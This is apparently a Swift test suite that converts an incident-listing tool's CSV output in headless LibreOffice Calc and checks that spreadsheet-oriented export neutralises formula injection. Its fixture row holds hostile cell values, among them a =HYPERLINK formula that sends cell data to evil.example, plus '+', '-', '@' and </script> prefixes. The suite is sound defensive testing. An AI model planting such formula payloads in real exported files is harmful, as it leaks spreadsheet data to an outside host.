import Foundation
import TestSupport
import Testing

/// `--format csv-excel` (issue 14, point 11) opened by a real spreadsheet: LibreOffice Calc
/// headless converts the file to .xlsx, and the sheet is read back from its XML (Python's
/// zipfile): Hangul intact, the byte order mark not glued to the first header, no cell of feed
/// text turned into a formula, local times read as dates. The same data as plain `csv` does
/// get a formula: the test would fail without the guard.
@Suite("End to end: spreadsheet CSV in LibreOffice Calc", .serialized)
struct SpreadsheetCSVTests {
    static let soffice = "/usr/bin/soffice"

    /// One cell of the converted sheet: its type (`s` text, `n` number, `str`/`e` a formula's
    /// result), its text, and whether it holds a formula.
    struct Cell: Decodable, Equatable {
        var type: String
        var text: String
        var formula: Bool
    }

    /// `incidents list --format FORMAT --tz KST` of the analyst fixture, converted by
    /// LibreOffice Calc to .xlsx and read back: the rows of the first sheet.
    static func sheet(_ format: String) async throws -> (bytes: Data, rows: [[Cell]]) {
        guard FileManager.default.isExecutableFile(atPath: soffice) else {
            Issue.record("\(soffice) is missing: Scripts/bootstrap installs Debian's libreoffice-calc-nogui for this test")
            return (Data(), [])
        }
        let directory = try TestPaths.temporaryDirectory("calc")
        let csv = directory.appendingPathComponent("incidents.csv")
        // Through the shell into a file, so the test sees the bytes (reading the output as a
        // String would drop a byte order mark).
        let result = await (try RunningProcess(URL(fileURLWithPath: "/bin/sh"), [
            "-c", "\"$0\" \"$@\" > \"\(csv.path)\"", Executables.url("incidents").path,
            "list", "--database", AnalystFixture.database, "--format", format, "--tz", "KST", "--order", "source",
        ])).finished()
        #expect(result.status == 0, "\(result.stderr)")
        // CSV filter options: comma, double quote, UTF-8 (76), from line 1; formulas evaluated
        // (LibreOffice's default), as a spreadsheet opening a file would.
        let convert = try RunningProcess(URL(fileURLWithPath: soffice), [
            "-env:UserInstallation=file://\(directory.path)/profile", "--headless", "--infilter=CSV:44,34,76,1",
            "--convert-to", "xlsx", "--outdir", directory.path, csv.path,
        ])
        let deadline = Date().addingTimeInterval(180)
        while convert.process.isRunning && Date() < deadline { try? await Task.sleep(for: .milliseconds(50)) }
        let converted = convert.wait(timeout: max(1, deadline.timeIntervalSinceNow))
        let xlsx = directory.appendingPathComponent("incidents.xlsx")
        try #require(FileManager.default.fileExists(atPath: xlsx.path), "LibreOffice did not convert: \(converted.stderr)")
        let reader = #"""
        import json, re, sys, zipfile
        from xml.etree import ElementTree as ET
        ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
        book = zipfile.ZipFile(sys.argv[1])
        shared = []
        if "xl/sharedStrings.xml" in book.namelist():
            for si in ET.fromstring(book.read("xl/sharedStrings.xml")).findall("m:si", ns):
                shared.append("".join(t.text or "" for t in si.iter("{%s}t" % ns["m"])))
        rows = []
        for row in ET.fromstring(book.read("xl/worksheets/sheet1.xml")).iter("{%s}row" % ns["m"]):
            cells = []
            for c in row.findall("m:c", ns):
                column = re.match(r"[A-Z]+", c.get("r")).group(0)
                index = 0
                for ch in column: index = index * 26 + ord(ch) - 64
                while len(cells) < index - 1: cells.append({"type": "empty", "text": "", "formula": False})
                v = c.find("m:v", ns); kind = c.get("t", "n")
                text = v.text if v is not None else ""
                if kind == "s": text = shared[int(text)]
                cells.append({"type": kind, "text": text or "", "formula": c.find("m:f", ns) is not None})
            rows.append(cells)
        print(json.dumps(rows))
        """#
        let python = try RunningProcess(URL(fileURLWithPath: "/usr/bin/env"), ["python3", "-c", reader, xlsx.path])
        while python.process.isRunning { try? await Task.sleep(for: .milliseconds(20)) }
        let read = python.wait()
        #expect(read.status == 0, "\(read.stderr)")
        return (try Data(contentsOf: csv), try JSONDecoder().decode([[Cell]].self, from: Data(read.stdout.utf8)))
    }

    static func column(_ name: String, _ rows: [[Cell]]) throws -> Int {
        try #require(rows.first?.firstIndex { $0.text == name }, "no column \(name)")
    }

    @Test("csv-excel: BOM, Hangul intact, feed text never a formula, local times beside UTC ones")
    func spreadsheet() async throws {
        let (bytes, rows) = try await Self.sheet("csv-excel")
        #expect(Array(bytes.prefix(3)) == [0xEF, 0xBB, 0xBF])
        try #require(rows.count == 4, "a header and three incidents")
        #expect(rows[0][0].text == "id", "the byte order mark is read as such, not as part of the first header")
        #expect(!rows.joined().contains { $0.formula }, "no cell holds a formula")
        let (road, description, location, restriction) = (try Self.column("road", rows), try Self.column("description", rows),
                                                          try Self.column("location", rows), try Self.column("restriction", rows))
        let hostile = rows[2]
        #expect(hostile[description] == Cell(type: "s", text: "'=HYPERLINK(\"http://evil.example/?\"&A1,\"클릭\")", formula: false))
        #expect(hostile[road].text == "'+82 경부")
        #expect(hostile[location].text.hasPrefix("'-1 km </script>"))
        #expect(hostile[restriction].text == "'@SUM(1,2)")
        #expect(rows[1][road].text == "경부고속도로")
        #expect(rows[1][description].text.hasPrefix("[사고] 경부고속도로 (부산방향) 오산IC → 안성IC"))
        // started_at stays RFC 3339 text; the local time beside it is a date-time number.
        let (utc, local) = (try Self.column("started_at", rows), try Self.column("started_at (+09:00)", rows))
        #expect(local == utc + 1)
        #expect(rows[1][utc] == Cell(type: "s", text: "2024-02-29T23:50:00Z", formula: false))
        #expect(rows[1][local].type == "n")
        // 2024-03-01 08:50 is day 45352 of the 1900 date system plus 8:50 / 24 h.
        let serial = Double(rows[1][local].text) ?? 0
        let expected: Double = 45_352 + 530.0 / 1440
        #expect(abs(serial - expected) < 1e-6, "\(rows[1][local])")
    }

    @Test("plain csv (for programs) is not guarded: a spreadsheet runs the feed's formula")
    func plainCSVIsNotForSpreadsheets() async throws {
        let (bytes, rows) = try await Self.sheet("csv")
        #expect(Array(bytes.prefix(3)) != [0xEF, 0xBB, 0xBF])
        try #require(rows.count == 4)
        #expect(rows[2][try Self.column("description", rows)].formula, "the unguarded =HYPERLINK(…) became a formula")
    }
}
